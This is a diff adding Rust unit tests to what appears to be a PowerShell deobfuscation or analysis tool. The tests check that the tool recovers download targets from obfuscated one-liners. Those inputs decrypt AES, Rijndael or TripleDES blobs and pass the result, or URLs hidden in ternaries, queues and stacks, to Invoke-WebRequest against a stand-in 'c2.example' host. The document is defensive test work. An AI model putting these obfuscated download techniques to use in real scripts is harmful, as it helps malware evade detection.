@@ -789,6 +789,83 @@ fn what_it_does_to_the_machine() {
     ]);
 }
 
+#[test]
+fn ciphers_and_hashes() {
+    check(&[
+        (
+            "$a=New-Object System.Security.Cryptography.AesManaged; $a.Mode=[System.Security.Cryptography.CipherMode]::CBC; $a.Padding=[System.Security.Cryptography.PaddingMode]::PKCS7; $a.KeySize=128; $a.Key=[byte[]](0..15); $a.IV=[byte[]](16..31); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $d=$a.CreateDecryptor(); $p=$d.TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+            A,
+        ),
+        (
+            "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)).TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+            A,
+        ),
+        (
+            "$a=New-Object System.Security.Cryptography.RijndaelManaged; $a.Mode='ECB'; $a.Key=[byte[]](0..31); $b=[Convert]::FromBase64String('fr25mO2ZQKdtbHFr4cODMztVEQfBqsQFNkIoji7vZWw='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,32); iwr ([Text.Encoding]::UTF8.GetString($p))",
+            A,
+        ),
+        (
+            "$a=New-Object System.Security.Cryptography.TripleDESCryptoServiceProvider; $a.Key=[byte[]](0..23); $a.IV=[byte[]](0..7); $b=[Convert]::FromBase64String('+R/Kf0b+hl1OcdtNPd9KQo23g2sMapei'); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+            A,
+        ),
+        (
+            "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $m=New-Object IO.MemoryStream(,$b); $c=New-Object System.Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)),[System.Security.Cryptography.CryptoStreamMode]::Read); iwr (New-Object IO.StreamReader($c)).ReadToEnd()",
+            A,
+        ),
+        (
+            "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $m=New-Object IO.MemoryStream; $c=New-Object System.Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)),'Write'); $c.Write($b,0,$b.Length); $c.FlushFinalBlock(); $p=$m.ToArray(); iwr ([Text.Encoding]::UTF8.GetString($p))",
+            A,
+        ),
+        (
+            "$h=[System.Security.Cryptography.MD5]::Create().ComputeHash([Text.Encoding]::UTF8.GetBytes('abc')); iwr ([BitConverter]::ToString($h))",
+            "download 90-01-50-98-3C-D2-4F-B0-D6-96-3F-7D-28-E1-7F-72",
+        ),
+        (
+            "$h=(New-Object System.Security.Cryptography.SHA256Managed).ComputeHash([byte[]](97,98,99)); iwr $h[0]",
+            "download 186",
+        ),
+        (
+            "$a=[System.Security.Cryptography.Aes]::Create(); $a.Padding='None'; $a.Key=[byte[]](0..15); $a.IV=[byte[]](16..31); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikP5CGrlflIs8BLspxbECiAA='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,32); iwr ([Text.Encoding]::UTF8.GetString($p))",
+            "download http://c2.example/aaaaaaaaaaaaaa",
+        ),
+        ("iwr ([uri]'http://c2.example/a').Host", "download c2.example"),
+        ("iwr ([version]'3.4.5').Minor", "download 4"),
+    ]);
+    // A key that is made anew, a padding that is wrong, a mode that is not known: nothing is claimed.
+    for script in [
+        "$a=[System.Security.Cryptography.Aes]::Create(); $a.Key=[byte[]](0..15); $a.IV=[byte[]](16..31); $a.KeySize=128; $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+        "$a=[System.Security.Cryptography.Aes]::Create(); $a.Key=[byte[]](0..15); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor().TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+        "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor([byte[]](1..16),[byte[]](16..31)).TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+        "$a=[System.Security.Cryptography.Aes]::Create(); $a.Mode='CFB'; $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $p=$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)).TransformFinalBlock($b,0,$b.Length); iwr ([Text.Encoding]::UTF8.GetString($p))",
+        "$a=[System.Security.Cryptography.Aes]::Create(); $b=[Convert]::FromBase64String('QvxPyIJuXSu9sz7RbrtikDu0FMOfoyhKSA0ufcS2GT8='); $m=New-Object IO.MemoryStream; $c=New-Object System.Security.Cryptography.CryptoStream($m,$a.CreateDecryptor([byte[]](0..15),[byte[]](16..31)),'Write'); $c.Write($b,0,$b.Length); $p=$m.ToArray(); iwr \"http://$p\"",
+    ] {
+        let acts = acts(script);
+        let known = acts
+            .iter()
+            .any(|act| act.starts_with("download") && !act.contains('\u{27e8}'));
+        assert!(!known, "{script}\n   {acts:?}");
+    }
+}
+
+#[test]
+fn later_versions_and_small_classes() {
+    check(&[
+        ("iwr ('http://c2.example/' + ('a'..'c')[0])", A),
+        ("iwr ('http://c2.example/' + ('c'..'a')[2])", A),
+        ("iwr ($true ? 'http://c2.example/a' : 'b')", A),
+        ("$x = 2 -gt 3 ? 'b' : 'http://c2.example/a'; iwr $x", A),
+        (
+            "$q=New-Object System.Collections.Queue; $q.Enqueue('http://c2.example/a'); $q.Enqueue('b'); iwr $q.Dequeue()",
+            A,
+        ),
+        (
+            "$q=New-Object System.Collections.Stack; $q.Push('b'); $q.Push('http://c2.example/a'); iwr $q.Pop()",
+            A,
+        ),
+        ("iwr ([uri]'http://c2.example/a').AbsoluteUri", A),
+    ]);
+}
+
 /// What is outside the known part stays an unknown expression, or is not told at all: nothing else may be claimed.
 #[test]
 fn the_rest_stays_unknown() {
